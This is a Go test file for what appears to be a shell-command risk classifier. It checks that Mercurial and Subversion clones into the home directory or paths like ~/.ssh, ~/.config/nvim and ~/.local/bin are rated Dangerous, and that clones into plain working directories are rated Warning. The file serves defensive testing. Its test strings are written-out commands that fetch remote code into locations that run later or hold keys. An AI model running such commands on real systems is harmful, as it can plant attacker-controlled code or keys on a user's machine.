package classify

import (
	"testing"
)

// TestAttackS32OtherClonesIntoTheHome: hg clone URL DIR and svn checkout
// (co) URL DIR write DIR, as git clone URL DIR does: into the home or a
// system directory (~/.ssh, ~/.config/nvim, whose files run later) it is
// Dangerous. They were Warning.
func TestAttackS32OtherClonesIntoTheHome(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`hg clone https://x.test/r ~`,
		`hg clone -r tip https://x.test/r ~/.config/nvim`,
		`svn checkout https://x.test/r ~/.ssh`,
		`svn co --depth infinity https://x.test/r ~/.local/bin`,
	})
	attackExactly(t, Warning, []string{
		`hg clone https://x.test/r`,
		`hg clone https://x.test/r src/r`,
		`svn checkout https://x.test/r`,
		`svn co -r 5 https://x.test/r wc`,
	})
}
